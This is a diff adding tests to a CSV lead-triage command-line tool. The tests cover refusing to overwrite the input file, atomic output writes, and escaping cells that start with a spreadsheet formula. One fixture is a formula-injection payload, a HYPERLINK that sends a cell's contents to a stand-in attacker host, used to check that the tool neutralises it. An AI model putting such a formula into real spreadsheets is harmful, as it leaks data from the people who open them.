@@ -1,5 +1,5 @@
 import { execFile } from "node:child_process";
-import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { linkSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { parse } from "csv-parse/sync";
@@ -78,6 +78,88 @@ describe("CSV files with bad lines", () => {
     expect(r.stderr).toContain("triaged 30 lead(s)");
     const stats = await cli(["stats", "--json"], env);
     expect(JSON.parse(stats.stdout).total).toBe(30);
+  });
+});
+
+describe("output files are written whole or not at all", () => {
+  it("refuses --out that is the input, by path, through a link or a hard link, and leaves the input as it was", async () => {
+    const dir = tmp();
+    const input = join(dir, "leads.csv");
+    const content = `${HEADER}\n${row(1)}\n${row(2)}\n`;
+    writeFileSync(input, content);
+    symlinkSync(input, join(dir, "link.csv"));
+    linkSync(input, join(dir, "hard.csv"));
+    for (const out of [input, join(dir, ".", "leads.csv"), join(dir, "link.csv"), join(dir, "hard.csv")]) {
+      const r = await cli(["check", "--no-save", "--file", input, "--out", out]);
+      expect(r.code).toBe(1);
+      expect(r.stderr.trim().split("\n")).toHaveLength(1);
+      expect(r.stderr).toContain("is the input file: write the triaged copy elsewhere");
+      expect(readFileSync(input, "utf8")).toBe(content);
+    }
+    expect(readdirSync(dir).sort()).toEqual(["hard.csv", "leads.csv", "link.csv"]);
+  });
+
+  it("a failed run leaves an earlier output as it was and no temporary file", async () => {
+    const dir = tmp();
+    writeFileSync(join(dir, "noheader.csv"), [row(1), row(2)].join("\n"));
+    writeFileSync(join(dir, "out.csv"), "an earlier run's output\n");
+    const r = await cli([
+      "check",
+      "--no-save",
+      "--file",
+      join(dir, "noheader.csv"),
+      "--out",
+      join(dir, "out.csv"),
+    ]);
+    expect(r.code).toBe(1);
+    expect(readFileSync(join(dir, "out.csv"), "utf8")).toBe("an earlier run's output\n");
+    const missing = await cli([
+      "check",
+      "--no-save",
+      "--file",
+      join(dir, "none.csv"),
+      "--out",
+      join(dir, "new.csv"),
+    ]);
+    expect(missing.code).toBe(1);
+    expect(readdirSync(dir).sort()).toEqual(["noheader.csv", "out.csv"]);
+  });
+
+  it("writes cells that would start a spreadsheet formula as text, unless told to keep them raw", async () => {
+    const dir = tmp();
+    const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1 555 0100", "-2+3", "@SUM(A1:A9)"];
+    writeFileSync(
+      join(dir, "leads.csv"),
+      `First Name,Job Title,Company Name,Phone,Notes,Email\n` +
+        `Ann,VP of Sales,"${cells[0]?.replace(/"/g, '""')}",${cells[1]},${cells[2]},${cells[3]}\n` +
+        `"\tTab",CTO,Initech,100,fine,ok@initech.com\n`,
+    );
+    const read = (file: string) =>
+      parse(readFileSync(join(dir, file), "utf8"), { columns: true }) as Record<string, string>[];
+    expect(
+      (await cli(["check", "--no-save", "--file", join(dir, "leads.csv"), "--out", join(dir, "safe.csv")]))
+        .code,
+    ).toBe(0);
+    const [first, second] = read("safe.csv");
+    expect(first).toMatchObject({
+      "Company Name": `'${cells[0]}`,
+      Phone: `'${cells[1]}`,
+      Notes: `'${cells[2]}`,
+      Email: `'${cells[3]}`,
+      "First Name": "Ann",
+    });
+    expect(second).toMatchObject({ "First Name": "'\tTab", Notes: "fine" });
+    const raw = await cli([
+      "check",
+      "--no-save",
+      "--no-formula-guard",
+      "--file",
+      join(dir, "leads.csv"),
+      "--out",
+      join(dir, "raw.csv"),
+    ]);
+    expect(raw.code).toBe(0);
+    expect(read("raw.csv")[0]).toMatchObject({ "Company Name": cells[0], Phone: cells[1], Email: cells[3] });
   });
 });
 
